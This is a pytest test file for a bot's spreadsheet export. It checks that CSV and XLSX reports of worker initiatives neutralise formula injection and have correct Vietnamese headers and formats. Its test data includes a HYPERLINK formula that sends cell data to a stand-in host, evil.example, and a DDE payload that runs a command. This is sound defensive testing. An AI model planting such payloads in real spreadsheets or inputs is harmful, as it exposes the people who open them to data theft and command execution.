"""Exports are safe to open: no formula from a worker's answer ever runs in Excel."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.services.export import BOM, cell, neutralised, write_csv, write_xlsx
from storage.initiatives import EXPORT_COLUMNS, ReviewStep


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
        "=1+1",
        "@SUM(A1:A9)",
        "+cmd|' /C calc'!A0",
        "-2+3*A1",
        "\t=1+1",
        "\r=1+1",
        # Excel evaluates these too (unit names and worker names seen in the wild):
        "-2+3",
        "+1+1",
        "-cmd",
        "+Lan",
        "-Nguyễn Văn A",
        "-5% hàng lỗi",
        "+84 912 345 678",
    ],
)
def test_every_cell_that_starts_like_a_formula_is_written_as_text(attack: str) -> None:
    """OWASP's rule: a cell starting with =, +, -, @, TAB or CR gets a leading apostrophe."""
    assert neutralised(attack) == "'" + attack


@pytest.mark.parametrize("plain", ["Bình thường", "5% hàng lỗi", "'đã có nháy", ""])
def test_other_values_stay_as_they_are(plain: str) -> None:
    assert neutralised(plain) == plain


def test_the_csv_has_a_bom_and_neutralised_cells() -> None:
    row = dict.fromkeys(EXPORT_COLUMNS)
    row |= {"id": 1, "author_name": '=HYPERLINK("x")', "problem": "-5% hàng lỗi", "applied": True}
    out = io.StringIO()
    assert write_csv(out, [row]) == 1
    text = out.getvalue()
    assert text.startswith(BOM)
    [parsed] = list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))
    assert parsed["author_name"] == '\'=HYPERLINK("x")'
    assert parsed["problem"] == "'-5% hàng lỗi" and parsed["applied"] == "yes"
    assert cell(None) == "" and cell(3) == "3"


def test_the_xlsx_writes_formula_like_text_as_text_cells_without_a_visible_apostrophe(
    tmp_path: Path,
) -> None:
    risky = ["=1+2 máy hay kẹt vải", "-2+3", "+Lan", "@SUM(A1)", "-Nguyễn Văn A"]
    rows = []
    for n, text in enumerate(risky, start=1):
        row = dict.fromkeys(EXPORT_COLUMNS)
        rows.append(row | {"id": n, "problem": text, "author_name": text, "unit_name": text})
    path = tmp_path / "report.xlsx"
    assert write_xlsx(path, rows, {}) == len(risky)
    sheet = load_workbook(path)["Sáng kiến"]
    column = {name: index for index, name in enumerate(EXPORT_COLUMNS, start=1)}
    for line, text in enumerate(risky, start=2):
        for name in ("problem", "author_name", "unit_name"):
            cell_ = sheet.cell(line, column[name])
            assert (cell_.value, cell_.data_type) == (text, "s")  # text, shown as typed
            assert cell_.quotePrefix  # and Excel keeps it text when it is edited


def test_the_xlsx_is_for_people_vietnamese_headers_values_formats_and_a_filter(
    tmp_path: Path,
) -> None:
    step = ReviewStep(
        dt.datetime(2026, 11, 20, 3, tzinfo=dt.UTC), "grassroots", "valid", "Trần Văn Hùng", None
    )
    row = dict.fromkeys(EXPORT_COLUMNS) | {
        "id": 7,
        "status": "valid",
        "benefit_kind": "money",
        "benefit_value_vnd": 5_000_000,
        "field": "production",
        "applied": True,
        "review_level": "grassroots",
        "sources": {"problem": "voice", "solution": "text"},
        "submitted_at": dt.datetime(2026, 11, 19, 20, tzinfo=dt.UTC),
        "review_history": "2026-11-20 grassroots valid (Trần Văn Hùng)",
        "review_steps": [step],
    }
    summaries = {
        "Cấp cơ sở": [
            {
                "code": "HN-DM01",
                "name": "CĐCS Dệt may 01",
                "entries": 50,
                "valid": 48,
                "quota": 40,
                "percent_of_quota": 120.0,
            }
        ]
    }
    path = tmp_path / "report.xlsx"
    write_xlsx(path, [row], summaries)
    book = load_workbook(path)
    sheet = book["Sáng kiến"]
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["Số", "Trạng thái", "Mã đơn vị", "Đơn vị"]
    assert "benefit_value_vnd" not in header and "Giá trị làm lợi (đ/năm)" in header
    line = dict(zip(header, sheet[2], strict=True))
    assert line["Trạng thái"].value == "Hợp lệ"
    assert line["Loại lợi ích"].value == "Làm lợi, tiết kiệm tiền"
    assert line["Lĩnh vực"].value == "Kỹ thuật, sản xuất"
    assert line["Đã áp dụng"].value == "Có"
    assert line["Nói bằng giọng"].value == "Nói: Khó khăn"
    assert line["Lịch sử duyệt"].value == "20/11/2026 Cơ sở: hợp lệ (Trần Văn Hùng)"
    money = line["Giá trị làm lợi (đ/năm)"]
    assert (money.value, money.number_format) == (5_000_000, '#,##0 "đ"')
    sent = line["Ngày gửi"]
    local = dt.datetime(2026, 11, 20, 3, 0, tzinfo=dt.UTC).replace(tzinfo=None)
    assert sent.value == local  # local time (UTC+7), a real date
    assert sent.number_format == "dd/mm/yyyy hh:mm"
    assert sheet.auto_filter.ref == "A1:Y2"
    assert sheet.column_dimensions["J"].width == 40  # the title
    summary = book["Cấp cơ sở"]
    assert [c.value for c in summary[1]][-1] == "% chỉ tiêu"
    share = summary.cell(2, 6)
    assert (share.value, share.number_format) == (1.2, "0.0 %")
    assert summary.auto_filter.ref == "A1:F2"
